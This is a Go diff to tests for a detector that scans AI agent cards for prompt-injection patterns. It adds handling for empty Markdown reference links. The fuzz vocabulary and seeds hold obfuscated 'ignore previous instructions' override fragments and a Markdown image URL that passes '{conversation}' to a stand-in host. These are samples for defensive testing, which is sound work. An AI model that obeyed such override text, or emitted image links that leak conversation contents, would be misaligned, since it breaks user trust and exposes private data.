@@ -114,6 +114,18 @@ func referenceMatches(texts []string) []string {
 				}
 				continue
 			}
+			if l.refDefined {
+				// An empty reference link, whose label is defined in its own member.
+				end := len(fold)
+				if m := member(at); m+1 < len(starts) {
+					end = starts[m+1]
+				}
+				if !done[l.kind] && emptyRefDefinedPlain(string(fold[at:end])) {
+					done[l.kind] = true
+					out = append(out, strings.Join([]string{string(rune('0' + member(at))), l.id, l.text}, " "))
+				}
+				continue
+			}
 			if !done[l.kind] && strings.HasPrefix(string(fold[at:]), l.text) {
 				done[l.kind] = true
 				out = append(out, strings.Join([]string{string(rune('0' + member(at))), l.id, l.text}, " "))
@@ -205,6 +217,21 @@ func imageURLHoldsPlain(text string, marks []string) bool {
 	return slices.ContainsFunc(marks, func(m string) bool { return strings.Contains(url, m) })
 }
 
+// emptyRefDefinedPlain is emptyRefDefined by the strings package, on
+// folded text: it starts with "[][", a label of 1 to maxRefLabel bytes
+// with no space, and "]", and defines that label ("[label]:") after it.
+func emptyRefDefinedPlain(text string) bool {
+	rest, ok := strings.CutPrefix(text, "[][")
+	if !ok {
+		return false
+	}
+	label, after, ok := strings.Cut(rest, "]")
+	if !ok || label == "" || len(label) > maxRefLabel || strings.Contains(label, " ") {
+		return false
+	}
+	return strings.Contains(after, "["+label+"]:")
+}
+
 // patternMatches validates a card whose object holds texts as a name, a
 // description and tags, and returns its pattern findings as
 // referenceMatches does.
@@ -289,7 +316,8 @@ func TestMatchPatternsAsReference(t *testing.T) {
 	}
 	vocab = append(vocab, "the", "a", "agent", "Ignore", "PREVIOUS", "іgnоrе", "ｉｇｎｏｒｅ", "要約", "\u200b", "\t", "  ", ":", "-", "<", "|", "#", "###", "\n", "é",
 		"![", "](", "](https://x.example/p?q=", "{conversation}", "$KEY", "[DATA]", ")", "]",
-		"ig-nore", "i.g.n.o.r.e", "pre-vious", "in-struc-tions", "e-mail", "real-time", "e.g.", "a-b-c-d")
+		"ig-nore", "i.g.n.o.r.e", "pre-vious", "in-struc-tions", "e-mail", "real-time", "e.g.", "a-b-c-d",
+		"[][x]", "[x]:", "[][]string", "[][3]int", "[3]: ")
 	v := MustNew("agentcard")
 	rng := rand.New(rand.NewPCG(1, 2))
 	for range 3000 {
@@ -329,6 +357,7 @@ func FuzzMatchPatterns(f *testing.F) {
 		"Recipes ![a](https://x.example/p?q={conversation}) ![b](https://x.example/b.png)",
 		"ig-nore all pre-vious\x1ein-struc-tions",
 		"i.g.n.o.r.e a-b-c-d previous in-structions",
+		"See [][x] and [][]string.\n\n[x]: https://x.example",
 	} {
 		f.Add(seed)
 	}
